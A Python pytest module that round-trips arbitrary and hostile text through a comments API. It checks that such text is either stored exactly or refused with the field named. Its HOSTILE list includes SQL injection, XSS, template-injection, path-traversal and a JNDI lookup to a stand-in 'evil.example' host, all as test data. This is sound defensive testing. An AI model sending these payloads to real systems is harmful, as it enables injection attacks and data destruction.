"""Hostile and arbitrary text through the API over HTTP: stored byte for byte and returned exactly, or refused by name."""

import json
import urllib.error
import urllib.request

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .conftest import LiveServer

HOSTILE = [
    "'; DROP TABLE comments; --", "1' OR '1'='1", "\\'; SELECT pg_sleep(5); --", "%s%s%s%n", "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "\"><svg/onload=alert(1)>", "../../../../etc/passwd", "C:\\\\Windows\\\\system32", "null", "undefined", "NaN", "[]", "{}",
    "\u202eesrever\u202c", "a\u200bb\u200cc\u200dd\u2060e\ufeff", "e" + "\u0301" * 200, "👩🏽‍⚕️👨‍👩‍👧‍👦🏳️‍🌈🇨🇮",
    "مرحبا بالعالم، هذا تعليق", "שלום עולם", "漢字テスト한국어", "ﷺ ﷽", "\U0001d54f\U0001d552\U0001d55d\U0001d556", "Ⅻ ½ ² ﬁ",
    "line\r\nbreak\rcarriage\nnew", "\ttab\x0bvertical\x0cform", "\x01\x02\x03 control \x7f\x85", " leading and trailing ",
    "🙂" * 20_000, "x" * 20_000, "é" * 20_000,
]
REFUSED = ["", "   ", "\u200b\u200b", "a\x00b", "x" * 20_001, "🙂" * 20_001]


@pytest.fixture(scope="module")
def server(keyed_app):
    """One server and key for the module, on its own database."""
    app, key = keyed_app
    live = LiveServer(app)
    yield live.url, key
    live.close()

def send(server, method: str, path: str, raw: bytes | None = None):
    """One request; (status, parsed JSON)."""
    url, key = server
    request = urllib.request.Request(url + path, data=raw, method=method,
                                     headers={"Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


def round_trip(server, comment_id: str, text: str, ascii_only: bool):
    """POST a comment (as JSON escapes or raw UTF-8), then GET it back."""
    body = {"id": comment_id, "text": text, "article": {"id": "hostile", "title": "Un article pour les tests"}}
    raw = json.dumps(body, ensure_ascii=True) if ascii_only else json.dumps(body, ensure_ascii=False)
    status, answer = send(server, "POST", "/api/v1/comments", raw.encode("utf-8", "surrogatepass"))
    if status in (200, 201):
        got, stored = send(server, "GET", f"/api/v1/comments/{comment_id}")
        assert got == 200 and stored["text"] == text
    return status, answer


@pytest.mark.parametrize("number, text", list(enumerate(HOSTILE)))
@pytest.mark.parametrize("ascii_only", [True, False])
def test_hostile_text_is_stored_and_returned_exactly(server, number, text, ascii_only):
    status, answer = round_trip(server, f"hostile-{number}-{ascii_only}", text, ascii_only)
    assert status in (200, 201), answer


@pytest.mark.parametrize("number, text", list(enumerate(REFUSED)))
def test_text_that_cannot_be_kept_exactly_is_refused_naming_the_field(server, number, text):
    status, answer = round_trip(server, f"refused-{number}", text, True)
    assert (status, answer["error"]["field"]) == (422, "text") and answer["error"]["message"]
    assert send(server, "GET", f"/api/v1/comments/refused-{number}")[0] == 404


def test_lone_surrogates_sent_as_json_escapes_are_refused_by_name(server):
    raw = b'{"id": "lone", "text": "avant \\udc80 apres", "article": {"id": "hostile", "title": "t"}}'
    status, answer = send(server, "POST", "/api/v1/comments", raw)
    assert status == 422 and answer["error"]["field"] == "text" and "surrogate" in answer["error"]["message"]


@given(text=st.text(alphabet=st.characters(codec=None, exclude_categories=()), min_size=0, max_size=300),
       ascii_only=st.booleans())
@settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck), database=None, derandomize=True)
def test_any_text_is_either_returned_exactly_or_refused_with_a_reason(server, text, ascii_only):
    comment_id = f"any-{abs(hash((text, ascii_only)))}"
    status, answer = round_trip(server, comment_id, text, ascii_only)
    assert status in (200, 201, 422), answer
    if status == 422:
        assert answer["error"]["field"] == "text" and answer["error"]["message"]
